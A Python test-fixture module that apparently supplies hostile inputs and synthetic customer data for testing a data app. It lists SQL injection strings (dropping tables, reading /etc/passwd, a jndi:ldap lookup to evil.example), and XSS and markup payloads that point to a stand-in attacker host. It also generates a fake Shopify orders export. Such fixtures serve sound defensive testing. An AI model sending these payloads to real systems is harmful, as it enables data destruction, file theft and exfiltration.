"""Words that do harm where they are taken for more than words."""

SQL = (
    "'; drop table cells; --", "' or '1'='1", "1; attach 'evil.duckdb'", "x' union select * from ledger --",
    "\"; copy (select 1) to 'evil.csv'; --", "') or 1=1 --", "${jndi:ldap://evil.example}", "%27%20or%201%3D1",
    "1) or sleep(5)--", "email' and (select count(*) from read_text('/etc/passwd')) > 0 --",
    "\\'; drop table cards; --",
    "'; insert into cards default values; --", "'; pragma database_list; --", "'; install httpfs; --", "0x27",
    "' || 'a",
    "a'\x00'; drop table history; --",
)  # fmt: skip
SCRIPTS = (
    "<script>document.title='evil'</script>", "<img src=x onerror=document.title='evil'>",
    "<svg onload=document.title='evil'>",
    "<iframe srcdoc='<script>parent.document.title=1</script>'>", "![x](http://evil.example/pixel)",
    "[click](javascript:document.title='evil')", "[a](http://evil.example)", "<a href=http://evil.example>a</a>",
    "<style>*{display:none}</style>", "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<form action=http://evil.example><input name=a>", "<base href=http://evil.example>",
    "<link rel=stylesheet href=http://evil.example/a.css>", "<object data=http://evil.example>", "http://evil.example/bare",
    "<details open ontoggle=document.title='evil'>", "{{constructor.constructor('document.title=1')()}}",
    "$\\href{http://evil.example}{x}$", ":material/home: :red-background[evil]", "javascript:document.title='evil'",
)  # fmt: skip
PEOPLE = {
    "e-mail": "zofia.kowalczyk@poczta.example", "name": "Zofia Kowalczyk-Zawadzka", "phone": "+48 601 234 567",
    "street": "ul. Krakowskie Przedmiescie 987/12", "card": "4111 1111 1111 1111", "note": "prosze dzwonic do Bartosza",
}  # fmt: skip
ORDERS = (
    "Name,Email,Financial Status,Created at,Paid at,Currency,Total,Subtotal,Shipping,Taxes,Discount Amount,"
    "Lineitem quantity,Lineitem name,Lineitem price,Lineitem sku,Billing Name,Billing Street,Billing Phone,Notes,Phone,"
    "Payment Reference,Id,Source,Refunded Amount\n"
)


def orders_of_people() -> bytes:
    """A Shopify export of orders with everything about people that such files hold."""
    who = PEOPLE
    lines = [
        f"#{1000 + day},{who['e-mail']},paid,2026-11-0{day} 10:00:00 +0100,2026-11-0{day} 10:00:00 +0100,PLN,65.00,"
        f"60.00,5.00,0.00,0.00,1,Tee - S,60.00,TEE-S,{who['name']},{who['street']},{who['phone']},"
        f"{who['note']},{who['phone']},{who['card']},50000{1000 + day},web,0.00"
        for day in range(1, 8)
    ]
    return (ORDERS + "\n".join(lines) + "\n").encode()


def visits(first: int, number: int, day: str, **told: str) -> bytes:
    """An event log: `number` visits of a day, each with a product view."""
    channel, device = told.get("channel", "email"), told.get("device", "mobile")
    rows = [
        f"user_{n},sess_{n},{event},{day} 10:{n % 60:02d}:{place:02d},{device},{channel},2026-01,new"
        for n in range(first, first + number)
        for place, event in enumerate(("home", "product_view", "add_to_cart"))
    ]
    head = "user_id,session_id,event,timestamp,platform,acquisition_channel,user_cohort,user_lifecycle"
    return "\n".join((head, *rows, "")).encode()
